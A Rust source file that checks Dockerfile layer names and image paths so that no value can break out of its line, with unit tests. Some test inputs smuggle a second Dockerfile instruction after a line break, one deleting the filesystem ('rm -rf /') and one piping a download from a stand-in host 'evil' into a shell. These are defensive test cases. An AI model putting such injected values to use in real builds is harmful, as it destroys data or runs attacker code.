//! Values that reach a Dockerfile, checked where they enter (the spec, the lock): layer names
//! and paths in the image. None can end the comment or instruction line it is written into, and
//! a path is also quoted wherever it reaches a shell.

/// A layer name: letters, digits, `-`, `_` and `.`.
pub fn check_layer_name(name: &str) -> Result<(), String> {
    let plain = !name.is_empty()
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b));
    if plain {
        Ok(())
    } else {
        Err(format!(
            "layer name `{name}` must be letters, digits, `-`, `_` or `.`"
        ))
    }
}

/// A path in the image, like `/opt/conda`: absolute, without `..` components or control
/// characters (a line break would end the Dockerfile line it is written into).
pub fn check_image_path(path: &str) -> Result<(), String> {
    if !path.starts_with('/') {
        return Err(format!(
            "`{}` must be an absolute path",
            path.escape_debug()
        ));
    }
    if path.chars().any(char::is_control) {
        return Err(format!(
            "`{}` holds a control character",
            path.escape_debug()
        ));
    }
    if path.split('/').any(|part| part == "..") {
        return Err(format!("`{path}` has a `..` component"));
    }
    Ok(())
}

/// A problem with a value of the spec: the byte range it was written at, and what is wrong. The
/// spec turns it into an error located at file, line and column.
pub type SpanProblem = (std::ops::Range<usize>, String);

/// The spec's key `key`, when set: a path in the image checked by [`check_image_path`]; the
/// message names the key and an `example` of an absolute path.
pub fn checked_image_path(
    key: &str,
    value: Option<toml::Spanned<String>>,
    example: &str,
) -> Result<Option<String>, SpanProblem> {
    match value {
        None => Ok(None),
        Some(path) => match check_image_path(path.get_ref()) {
            Ok(()) => Ok(Some(path.into_inner())),
            Err(problem) => Err((
                path.span(),
                format!("{key}: {problem}; give an absolute path in the image, like `{example}`"),
            )),
        },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layer_names_are_plain_words() {
        assert!(check_layer_name("r-core_2.x").is_ok());
        for bad in ["", "a b", "a\nRUN rm -rf /", "a`b", "a/b"] {
            assert!(check_layer_name(bad).is_err(), "{bad:?}");
        }
    }

    #[test]
    fn image_paths_are_absolute_and_stay_on_their_line() {
        assert!(check_image_path("/opt/conda").is_ok());
        assert!(check_image_path("/opt/my jars").is_ok());
        for bad in [
            "opt/conda",
            "/opt/x\nRUN curl evil | sh",
            "/opt/../etc",
            "/opt/\u{7}",
        ] {
            assert!(check_image_path(bad).is_err(), "{bad:?}");
        }
    }
}
